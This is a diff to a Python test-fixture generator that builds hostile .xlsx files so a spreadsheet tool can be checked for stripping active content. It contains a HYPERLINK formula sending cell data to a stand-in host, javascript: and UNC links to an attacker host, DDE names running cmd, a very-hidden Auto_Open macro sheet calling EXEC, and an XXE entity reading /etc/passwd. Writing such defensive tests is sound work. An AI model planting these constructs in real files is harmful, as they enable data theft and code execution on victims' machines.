@@ -670,6 +670,96 @@ def _markup(out: Path, cycle: Cycle) -> Path:
         setting("Mål", 2, "Analys", "[bold red]Klart[/] [link=file:///etc/passwd]se här[/link]")(workbook)
     return edited(out, cycle, "markup-in-cells.xlsx", change)
 
+# --- Active content: formulas, links, names and macros that must never reach an output (issue #12) ---------
+
+HOSTILE_LINK = '=HYPERLINK("http://example.invalid/stjal?"&A1,"Klicka här")'
+XLM_SHEET = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+             b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
+             b'<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')
+
+
+def _add_to_package(part: str, content_type: bytes, relationship: bytes, sheet: bytes = b"", names: bytes = b"") -> Callable[[str, bytes], bytes]:
+    """A rezip change registering `part` in the content types and the workbook's relationships, and optionally as a sheet and in names."""
+    def change(name: str, data: bytes) -> bytes:
+        if name == "[Content_Types].xml":
+            return data.replace(b"</Types>", b'<Override PartName="/%s" ContentType="%s"/></Types>' % (part.encode(), content_type))
+        if name == "xl/_rels/workbook.xml.rels":
+            return data.replace(b"</Relationships>", relationship + b"</Relationships>")
+        if name == "xl/workbook.xml":
+            return data.replace(b"</sheets>", sheet + b"</sheets>").replace(b"<definedNames/>", b"<definedNames>" + names + b"</definedNames>")
+        return data
+    return change
+
+
+@case("array-formula-hyperlink.xlsx")
+def _array_formula(out: Path, cycle: Cycle) -> Path:
+    """=HYPERLINK(…) entered as an array formula (Ctrl+Shift+Enter), which openpyxl keeps as an ArrayFormula object."""
+    from openpyxl.worksheet.formula import ArrayFormula
+
+    def change(wb: Workbook) -> None:
+        target = cell(wb, "Mål", 2, "Analys")
+        target.value = ArrayFormula(target.coordinate, HOSTILE_LINK)
+    return edited(out, cycle, "array-formula-hyperlink.xlsx", change)
+
+
+@case("cell-hyperlinks.xlsx")
+def _cell_links(out: Path, cycle: Cycle) -> Path:
+    """Cells linked to javascript: and to a program on a UNC path; the values themselves are fine."""
+    def change(wb: Workbook) -> None:
+        cell(wb, "Mål", 2, "Analys").hyperlink = "javascript:alert(document.cookie)"
+        cell(wb, "Indikatorer", 2, "Analys").hyperlink = "file://///angripare.example/dela/faktura.exe"
+        cell(wb, "Texter", 2, "Text").hyperlink = "\\\\angripare.example\\dela\\rapport.xlsm"
+    return edited(out, cycle, "cell-hyperlinks.xlsx", change)
+
+
+@case("defined-name-dde.xlsx")
+def _dde_name(out: Path, cycle: Cycle) -> Path:
+    """A defined name that starts a program through DDE when a formula uses it."""
+    from openpyxl.workbook.defined_name import DefinedName
+
+    def change(wb: Workbook) -> None:
+        wb.defined_names["Kalkyl"] = DefinedName("Kalkyl", attr_text="cmd|' /C calc'!A0")
+        wb["Mål"].defined_names["Utskrift"] = DefinedName("Utskrift", attr_text="cmd|' /C calc'!A0")
+    return edited(out, cycle, "defined-name-dde.xlsx", change)
+
+
+@case("xlm-macro-sheet.xlsx")
+def _xlm_sheet(out: Path, cycle: Cycle) -> Path:
+    """An Excel 4.0 macro sheet started by Auto_Open, inside an ordinary .xlsx (no vbaProject.bin)."""
+    path = valid(out, cycle, "xlm-macro-sheet.xlsx")
+    change = _add_to_package(
+        "xl/macrosheets/sheet1.xml", b"application/vnd.ms-excel.macrosheet+xml",
+        b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="/xl/macrosheets/sheet1.xml" Id="rIdXlm"/>',
+        b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" name="Makro1" sheetId="99" state="veryHidden" r:id="rIdXlm"/>',
+        b'<definedName name="_xlnm.Auto_Open" hidden="1">Makro1!$A$1</definedName>')
+    return rezip(path, change, [("xl/macrosheets/sheet1.xml", XLM_SHEET)])
+
+
+@case("auto-open-name.xlsx")
+def _auto_open(out: Path, cycle: Cycle) -> Path:
+    """Only the name Auto_Open, as left behind when a macro sheet is deleted by hand."""
+    path = valid(out, cycle, "auto-open-name.xlsx")
+    name = b'<definedNames><definedName name="Auto_Open">Indikatorer!$A$1</definedName></definedNames>'
+    return rezip(path, lambda n, d: d.replace(b"<definedNames/>", name) if n == "xl/workbook.xml" else d)
+
+
+@case("dtd-in-renamed-part.xlsx")
+def _dtd_renamed(out: Path, cycle: Cycle) -> Path:
+    """The shared strings under the name xl/tekst.dat, with an external entity for /etc/passwd in the Status cell."""
+    path = valid(out, cycle, "dtd-in-renamed-part.xlsx")
+    part = sheet_part(path, "Indikatorer")
+    strings = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+               b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
+    register = _add_to_package(
+        "xl/tekst.dat", b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
+        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="/xl/tekst.dat" Id="rIdSst"/>')
+
+    def change(name: str, data: bytes) -> bytes:
+        if name == part:
+            return data.replace(b't="inlineStr"><is><t>Uppfylls helt</t></is></c>', b't="s"><v>0</v></c>', 1)
+        return register(name, data)
+    return rezip(path, change, [("xl/tekst.dat", strings)])
+
 
 # --- Large cases: built at test time, not committed -------------------------------------------
 
